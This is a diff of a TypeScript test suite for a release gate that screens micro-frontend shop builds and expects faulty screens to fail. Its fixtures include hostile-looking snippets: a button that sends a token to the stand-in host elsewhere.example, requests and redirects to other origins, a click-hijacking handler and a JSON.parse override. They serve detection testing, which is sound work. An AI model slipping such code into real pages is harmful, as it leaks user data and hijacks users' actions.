@@ -2,11 +2,14 @@ import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import {
   type Candidate,
+  codeOf,
+  type Fault,
   GateSamples,
   GOOD,
   integrityOf,
   LARGE,
   type Report,
+  rowsOf,
   type ShellBuild,
   screenAt,
 } from './support/gateSamples';
@@ -59,69 +62,68 @@ const kindsOf = ({ screens }: Report, path: string) =>
   screens.find((screen) => screen.path === path)?.findings.map(({ kind }) => kind);
 
 // B-release-55
-it('a build that shows its screen passes, and what it would change stays at the gate', async () => {
+it('a remote that was never published is shown in the live shop, screen by screen, and what it would change stays at the gate', async () => {
   const code = `once(() => fetch('/service/point', { method: 'POST', body: '{}' })); ${GOOD}`;
-  const report = await ask(samples.point([code]));
-  expect(report.screens).toMatchObject([{ path: '/gate-0', findings: [], screenshot: null }]);
-  expect(report.outcome).toBe('passed');
+  const report = await ask(samples.point([code, "throw new Error('render');"]), { isEmpty: true });
+  expect(report.screens[0]).toMatchObject({ path: '/gate-0', findings: [], screenshot: null });
+  expect(kindsOf(report, '/gate-1')).toContain('alert');
+  expect(report.outcome).toBe('failed');
   expect(report.heldBack).toEqual(['POST /service/point']);
   expect(await (await fetch(`${suite.shop.url}/registry.json`)).json()).toEqual(samples.live);
 });
 
-it('a remote that was never published is shown in the live shop as any other', async () => {
-  const sound = await ask(samples.point([GOOD]), { isEmpty: true });
-  expect([sound.outcome, sound.screens[0]?.findings]).toEqual(['passed', []]);
-  const broken = await ask(samples.point(["throw new Error('render');"]), { isEmpty: true });
-  expect(broken.outcome).toBe('failed');
-  expect(kindsOf(broken, '/gate-0')).toContain('alert');
-});
-
-const FAULTS: readonly (readonly [fault: string, told: string, code: string])[] = [
-  ['throws as it renders', 'version: fell back to', "throw new Error('render');"],
-  ['has another heading', 'missing: the heading is "충전" instead of "포인트 충전"', "return h1('충전');"],
-  ['leads elsewhere', 'address: it leads to /account', `once(() => history.pushState(null, '', '/account')); ${GOOD}`],
-  ['logs an error', 'console: price is NaN', `once(() => console.error('price is NaN')); ${GOOD}`],
+/** By screens: what keeps nothing else from being seen shares one. */
+const FAULTS: readonly (readonly Fault[])[] = [
+  [['throws as it renders', 'version: fell back to', '', "throw new Error('render');"]],
   [
-    'leaves a rejection to nobody',
-    'exception: Error: nobody',
-    `once(() => void Promise.reject(new Error('nobody'))); ${GOOD}`,
-  ],
-  ['evaluates text', 'policy: require-trusted-types-for', `once(() => { try { eval('1'); } catch {} }); ${GOOD}`],
-  [
-    'asks another origin',
-    'policy: connect-src forbids https://elsewhere.example',
-    `once(() => fetch('https://elsewhere.example/x').catch(() => 0)); ${GOOD}`,
+    ['has another heading', 'missing: the heading is "충전" instead of "포인트 충전"', '', "return h1('충전');"],
+    ['leads elsewhere', 'address: it leads to /account', "once(() => history.pushState(null, '', '/account'));"],
   ],
   [
-    'goes to another origin',
-    'origin: it asked http://127.0.0.2:9/',
-    `once(() => location.assign('http://127.0.0.2:9/')); ${GOOD}`,
+    ['logs an error', 'console: price is NaN', "once(() => console.error('price is NaN'));"],
+    [
+      'leaves a rejection to nobody',
+      'exception: Error: nobody',
+      "once(() => void Promise.reject(new Error('nobody')));",
+    ],
+    ['evaluates text', 'policy: require-trusted-types-for', "once(() => { try { eval('1'); } catch {} });"],
+    [
+      'asks another origin',
+      'policy: connect-src forbids https://elsewhere.example',
+      "once(() => fetch('https://elsewhere.example/x').catch(() => 0));",
+    ],
+    ['is too large', 'bytes: its scripts are 30.', '', LARGE],
   ],
   [
-    'freezes',
-    'freeze: nothing can be pressed for 3.',
-    `once(() => { const until = Date.now() + ${FROZEN_MS}; while (Date.now() < until); }); ${GOOD}`,
+    [
+      'goes to another origin',
+      'origin: it asked http://127.0.0.2:9/',
+      "once(() => location.assign('http://127.0.0.2:9/'));",
+    ],
   ],
-  ['is too large', 'bytes: its scripts are 30.', LARGE],
+  [
+    [
+      'freezes',
+      'freeze: nothing can be pressed for 3.',
+      `once(() => { const until = Date.now() + ${FROZEN_MS}; while (Date.now() < until); });`,
+    ],
+  ],
 ];
 
 describe('a build with a screen that', () => {
   let report: Report;
   beforeAll(async () => {
-    report = await ask(samples.point(FAULTS.map(([, , code]) => code)));
+    report = await ask(samples.point(FAULTS.map(codeOf)));
   });
 
   // B-release-58, B-release-59, B-release-60, B-release-61
-  it.each(FAULTS.map(([fault, told], index) => [fault, told, index] as const))(
-    '%s does not pass',
-    (_fault, told, index) => {
-      expect(report.outcome).toBe('failed');
-      const screen = report.screens[index];
-      const found = screen?.findings.map(({ kind, text }) => `${kind}: ${text}`);
-      expect(found).toEqual(expect.arrayContaining([expect.stringContaining(told)]));
-      expect(existsSync(screen?.screenshot ?? '')).toBe(true);
-    },
-  );
+  it.each(rowsOf(FAULTS))('%s does not pass', (_fault, told, index) => {
+    expect(report.outcome).toBe('failed');
+    const screen = report.screens[index];
+    const found = screen?.findings.map(({ kind, text }) => `${kind}: ${text}`);
+    expect(found).toEqual(expect.arrayContaining([expect.stringContaining(String(told))]));
+    expect(existsSync(screen?.screenshot ?? '')).toBe(true);
+  });
 });
 
 describe('a part for another screen', () => {
@@ -155,23 +157,18 @@ describe('a part for another screen', () => {
     expect(said.heldBack).toContain('POST /service/card');
   });
 
-  it('that breaks does not pass', async () => {
-    const code = "throw new Error('a part that breaks');";
-    const said = await withParts({ 'account.rows': [code], 'order.receipt': [code] });
-    const told = matching(/^exception|^console/);
-    expect(said).toMatchObject({ outcome: 'failed', account: told, receipt: told });
-  });
-
-  it('that leaves something behind, takes presses or sends elsewhere does not pass', async () => {
+  it('that breaks, leaves something behind, takes presses or sends elsewhere does not pass', async () => {
+    const broken = "throw new Error('a part that breaks');";
     const overlay = `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${PART}`;
     const sheet = `once(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); }); ${PART}`;
     const thief = `once(() => addEventListener('click', (event) => { if (event.target.closest('a')) { event.stopImmediatePropagation(); event.preventDefault(); } }, true)); ${PART}`;
     const sender = `return React.createElement('button', { type: 'button', onClick: () => void window.open('https://elsewhere.example/?token=1') }, '카드 보내기');`;
-    const said = await withParts({ 'account.rows': [overlay], 'order.receipt': [sheet, thief, sender] });
+    const said = await withParts({ 'account.rows': [broken], 'order.receipt': [overlay, sheet, thief, sender] });
     expect(said).toMatchObject({
       outcome: 'failed',
-      account: matching(/^node: it leaves <div#veil>/),
+      account: matching(/^exception|^console/),
       receipt: matching(
+        /^node: it leaves <div#veil>/,
         /^style: it leaves <style> with "footer/,
         /^click: a press on the shop's link to \/\S+ leads nowhere/,
         /^origin: after a press.* https:\/\/elsewhere\.example\/ with data in it/,
@@ -191,15 +188,24 @@ describe('a shell', () => {
     expect(report.screens).toMatchObject(paths.map((path) => ({ path, findings: [] })));
   });
 
-  it('whose switch, links or buttons do not what they are for does not pass', async () => {
-    const code = `addEventListener('click', (event) => {
+  // B-release-55, B-release-58
+  it('without a screen that the shop offers, or whose switch, links or buttons do not what they are for, does not pass', async () => {
+    const code = `const parse = JSON.parse;
+    JSON.parse = (text) => { const data = parse(text); if (data?.remotes) delete data.remotes['mf-account']; return data; };
+    addEventListener('click', (event) => {
       const pressed = event.target.closest('[role=switch], a[href="/point"], button[aria-controls]');
       if (!pressed) return;
       event.preventDefault();
       event.stopImmediatePropagation();
       if (pressed.tagName === 'BUTTON') throw new Error('no menu');
     }, true);`;
-    const report = await ask(await shellWith(code));
+    const { 'mf-account': account, 'mf-point': point } = samples.live.remotes;
+    if (!account || !point) throw new Error('mf-account and mf-point are not published');
+    const remotes = { 'mf-account': account, 'mf-point': point };
+    const report = await samples.ask([await shellWith(code)], { ...samples.live, remotes });
+    expect(report.outcome).toBe('failed');
+    expect(kindsOf(report, '/account')).toContain('address');
+    expect(kindsOf(report, '/terms/service')).toEqual([]);
     const frame = report.screens.find(({ path }) => path === '/');
     const found = frame?.findings.map(({ kind, text }) => `${kind}: ${text}`) ?? [];
     for (const told of [
@@ -209,16 +215,6 @@ describe('a shell', () => {
     ])
       expect(found).toEqual(expect.arrayContaining([expect.stringContaining(told)]));
     expect(existsSync(frame?.screenshot ?? '')).toBe(true);
-  });
-
-  // B-release-55, B-release-58
-  it('without a screen that the shop offers does not pass', async () => {
-    const code =
-      "const parse = JSON.parse; JSON.parse = (text) => { const data = parse(text); if (data?.remotes) delete data.remotes['mf-point']; return data; };";
-    const report = await ask(await shellWith(code));
-    expect(report.outcome).toBe('failed');
-    expect(kindsOf(report, '/point')).toContain('address');
-    expect(kindsOf(report, '/terms/service')).toEqual([]);
   });
 
   // B-release-58
